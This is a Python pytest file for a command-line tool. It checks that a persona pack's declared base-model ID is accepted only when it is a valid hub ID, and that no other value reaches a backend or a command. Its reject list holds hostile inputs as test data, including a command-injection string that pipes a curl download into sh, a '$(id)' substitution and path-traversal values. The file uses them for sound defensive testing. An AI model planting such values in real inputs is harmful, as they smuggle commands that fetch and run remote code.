"""What a stranger's pack says of its weights steers nobody."""

from dataclasses import replace

import pytest

from omnipersona_cli import registry
from omnipersona_cli.backend import is_hub_id
from omnipersona_cli.engine import gen
from omnipersona_cli.engine.keep import without_folders
from omnipersona_cli.errors import SlotError

NO_IDS = [
    "owner/name; curl https://example.org/x | sh",
    "owner/$(id)",
    "models/mine/bagel",
    "a/..",
    "owner/name+../other",
    "-rf/name",
    "ö/name",
]


@pytest.mark.parametrize("base", NO_IDS)
def test_a_base_that_is_no_hub_id_is_neither_looked_for_nor_put_into_a_command(
    learned, monkeypatch, base
):
    pack = learned.library.load("bo")
    slot = pack.slots["sketch"]
    about = {**slot.about, "base": base}
    learned.library.save(replace(pack, slots={"sketch": replace(slot, about=about)}), force=True)
    opened = []
    monkeypatch.setattr(registry, "open_backend", lambda opening, **more: opened.append(opening))
    with pytest.raises(SlotError) as caught:
        gen("<bo> here", library=learned.library)
    assert not opened and base.strip() not in caught.value.hint
    assert caught.value.hint == "learn it again: op learn PHOTOS --name bo -b sketch --force"


def test_a_hub_id_chooses_the_weights(learned, monkeypatch):
    pack = learned.library.load("bo")
    slot = pack.slots["sketch"]
    about = {**slot.about, "base": "owner/a_name-1.5+owner/other"}
    learned.library.save(replace(pack, slots={"sketch": replace(slot, about=about)}), force=True)
    opened = []

    def open_backend(opening, **more):
        opened.append(opening.model)
        return learned.backend

    monkeypatch.setattr(registry, "open_backend", open_backend)
    assert gen("<bo> here", library=learned.library, seed=1)
    assert opened == ["owner/a_name-1.5+owner/other"]


@pytest.mark.parametrize("base", ["models/mine/bagel", "./bagel", "/models/bagel"])
def test_a_pack_names_its_weights_and_not_the_folder_they_were_in(learned, base):
    slot = learned.library.load("bo").slots["sketch"]
    kept = without_folders(replace(slot, about={**slot.about, "base": base}))
    assert kept.about["base"] == "bagel"


def test_hub_ids_are_told_from_everything_else():
    assert all(map(is_hub_id, ["ByteDance-Seed/BAGEL-7B-MoT", "showlab/show-o-512x512", "a/b"]))
    assert not any(map(is_hub_id, [*NO_IDS, "name", "", "a/b/c", "/a", "a/", "a/b ", "a/b\n"]))
